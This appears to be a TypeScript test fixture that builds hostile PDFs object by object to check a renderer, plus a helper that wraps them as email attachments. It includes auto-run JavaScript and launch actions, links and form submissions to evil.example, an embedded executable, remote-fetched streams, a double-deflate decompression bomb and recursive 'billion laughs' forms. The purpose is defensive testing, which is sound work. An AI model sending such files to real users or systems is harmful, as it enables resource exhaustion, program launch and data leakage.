/** Hostile PDFs, each named by what it tries; written here, object by object. */
import { Buffer } from 'node:buffer';
import { deflateSync } from 'node:zlib';

type Part = string | { readonly dict: string; readonly data: Buffer };

/** A stream object. */
function stream(data: string | Buffer, dict = ''): Part {
  return { dict, data: Buffer.from(data) };
}

/** Object 1 is the catalog, 2 the pages, 3 the first page, 4 what it draws; a later part continues from 5. */
function pdf(change: {
  readonly catalog?: string;
  readonly pages?: string;
  readonly page?: string;
  readonly box?: string;
  readonly drawn?: Part;
  readonly more?: readonly Part[];
  readonly trailer?: string;
}): Buffer {
  const { catalog = '', page = '', box = '0 0 300 200', trailer = '', more = [] } = change;
  const font = '/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>';
  const resources = page.includes('/Resources') ? '' : `/Resources << ${font} >>`;
  return written(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      change.pages ?? '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R ${resources} ${page} >>`,
      change.drawn ?? stream(ink),
      ...more,
    ],
    trailer,
  );
}

/** A red square and a line of text in a font that the file does not carry. */
const ink = '1 0 0 rg 20 20 100 60 re f 0 g BT /F1 24 Tf 20 120 Td (Proof of concept) Tj ET';

function written(parts: readonly Part[], trailer: string): Buffer {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let at = pieces[0]?.length ?? 0;
  const add = (bytes: Buffer): void => {
    pieces.push(bytes);
    at += bytes.length;
  };
  parts.forEach((part, index) => {
    offsets.push(at);
    add(Buffer.from(`${String(index + 1)} 0 obj\n`));
    if (typeof part === 'string') add(Buffer.from(part, 'latin1'));
    else {
      add(Buffer.from(`<< ${part.dict} /Length ${String(part.data.length)} >>\nstream\n`));
      add(part.data);
      add(Buffer.from('\nendstream'));
    }
    add(Buffer.from('\nendobj\n'));
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = String(parts.length + 1);
  pieces.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${String(at)}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(pieces);
}

/** Spaces that unpack to the wanted size, packed twice. */
function bomb(megabytes: number): Buffer {
  return deflateSync(deflateSync(Buffer.alloc(megabytes * 1024 * 1024, 0x20), { level: 1 }));
}

/** Seven forms, each drawing the next a hundred times. */
function laughs(): Buffer {
  const form = (next: string): string =>
    `/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /XObject << /X ${next} >> >>`;
  const forms = [6, 7, 8, 9, 10, 11].map((next) => stream('/X Do '.repeat(100), form(`${String(next)} 0 R`)));
  return pdf({
    page: '/Resources << /XObject << /X 5 0 R >> >>',
    drawn: stream('/X Do '.repeat(100)),
    more: [...forms, stream(ink, form('5 0 R'))],
  });
}

function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, index) => `${String(index + 5)} 0 R`).join(' ');
  const page =
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>';
  return pdf({
    pages: `<< /Type /Pages /Kids [${kids}] /Count ${String(count)} >>`,
    more: Array.from({ length: count }, () => page),
  });
}

/** What is to be seen: the picture of the page, or the reason why there is none. */
export type HostilePdf = { readonly name: string; readonly bytes: Buffer; readonly seen: 'picture' | RegExp };

const action = (what: string): string => `/OpenAction << /Type /Action ${what} >>`;
const annotation = (what: string): string =>
  `/Annots [<< /Type /Annot /Rect [0 0 300 200] /Border [0 0 9] ${what} >>]`;

export function hostilePdfs(): readonly HostilePdf[] {
  const plain = pdf({});
  return [
    { name: 'plain-text-and-a-square.pdf', bytes: plain, seen: 'picture' },
    {
      name: 'opens-with-javascript.pdf',
      bytes: pdf({
        catalog: `${action('/S /JavaScript /JS (app.alert\\("x"\\); app.launchURL\\("https://evil.example"\\))')} /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >> >>`,
        page: '/AA << /O << /S /JavaScript /JS (app.alert\\(3\\)) >> >>',
      }),
      seen: 'picture',
    },
    {
      name: 'launches-a-program.pdf',
      bytes: pdf({ catalog: action('/S /Launch /F (/usr/bin/xterm) /Win << /F (cmd.exe) >>') }),
      seen: 'picture',
    },
    {
      name: 'is-one-large-link.pdf',
      bytes: pdf({
        catalog: action('/S /URI /URI (https://evil.example/open)'),
        page: annotation('/Subtype /Link /A << /S /URI /URI (https://evil.example/click) >>'),
      }),
      seen: 'picture',
    },
    {
      name: 'submits-a-form.pdf',
      bytes: pdf({
        catalog: `${action('/S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >>')} /AcroForm << /Fields [] /XFA 5 0 R >>`,
        page: annotation('/Subtype /Widget /FT /Tx /T (passphrase)'),
        more: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')],
      }),
      seen: 'picture',
    },
    {
      name: 'carries-another-file.pdf',
      bytes: pdf({
        catalog:
          '/Names << /EmbeddedFiles << /Names [(run.exe) << /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>] >> >>',
        page: annotation(
          '/Subtype /FileAttachment /FS << /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>',
        ),
        more: [stream('MZ', '/Type /EmbeddedFile')],
      }),
      seen: 'picture',
    },
    {
      name: 'draws-from-the-network.pdf',
      bytes: pdf({
        drawn: stream(`${ink} /I Do`, '/F << /FS /URL /F (https://evil.example/stream) >>'),
        page: '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /I 5 0 R >> >>',
        more: [
          stream(
            'x',
            '/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F << /FS /URL /F (https://evil.example/image) >> /FFilter /DCTDecode',
          ),
        ],
      }),
      seen: 'picture',
    },
    {
      name: 'unpacks-to-a-gigabyte.pdf',
      bytes: pdf({ drawn: stream(bomb(1024), '/Filter [/FlateDecode /FlateDecode]') }),
      seen: /memory limit|longer than 10 seconds/,
    },
    {
      name: 'has-an-image-of-many-gigapixels.pdf',
      bytes: pdf({
        drawn: stream(`${ink} q 100 0 0 100 150 50 cm /I Do Q`),
        page: '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /I 5 0 R >> >>',
        more: [
          stream(
            deflateSync(Buffer.alloc(1000)),
            '/Type /XObject /Subtype /Image /Width 90000 /Height 90000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
          ),
        ],
      }),
      seen: 'picture',
    },
    { name: 'is-a-billion-laughs.pdf', bytes: laughs(), seen: /longer than 10 seconds|memory limit|damaged/ },
    {
      name: 'draws-itself.pdf',
      bytes: pdf({
        drawn: stream(`${ink} /X Do`),
        page: '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /X 5 0 R >> >>',
        more: [
          stream(
            '/X Do',
            '/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /XObject << /X 5 0 R >> >>',
          ),
        ],
      }),
      seen: 'picture',
    },
    {
      name: 'is-a-mile-wide.pdf',
      bytes: pdf({ box: '0 0 1000000000 500000000', drawn: stream('1 0 0 rg 0 0 900000000 400000000 re f') }),
      seen: 'picture',
    },
    {
      name: 'has-a-hair-thin-page.pdf',
      bytes: pdf({ box: '0 0 1000000000 1', drawn: stream('1 0 0 rg 0 0 900000000 1 re f') }),
      seen: /no usable size/,
    },
    {
      name: 'is-locked-with-a-password.pdf',
      bytes: pdf({
        trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -1 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`,
      }),
      seen: /protected by a password/,
    },
    { name: 'is-cut-in-the-middle.pdf', bytes: plain.subarray(0, 180), seen: /damaged/ },
    {
      name: 'is-noise-after-its-first-line.pdf',
      bytes: Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(4000, 0xf7)]),
      seen: /damaged/,
    },
    {
      name: 'has-pages-in-a-circle.pdf',
      bytes: pdf({ pages: '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>' }),
      seen: /damaged|longer than 10 seconds/,
    },
    { name: 'has-ten-thousand-pages.pdf', bytes: manyPages(10_000), seen: 'picture' },
  ];
}

/** A letter with files attached. */
export function letterWith(
  files: readonly { readonly name: string; readonly type: string; readonly bytes: Buffer }[],
): string {
  const parts = files.flatMap(({ name, type, bytes }) => [
    '--b',
    `Content-Type: ${type}; name="${name}"`,
    `Content-Disposition: attachment; filename="${name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    ...(bytes.toString('base64').match(/.{1,76}/g) ?? []),
    '',
  ]);
  return [
    'From: Ada Finder <ada@example.net>',
    'To: security@harbour.example',
    'Subject: Report with files',
    `Date: ${new Date(Date.now() - 3_600_000).toUTCString().replace('GMT', '+0000')}`,
    'Message-ID: <files@example.net>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b"',
    '',
    '--b',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'The files are attached.',
    '',
    ...parts,
    '--b--',
    '',
  ].join('\r\n');
}
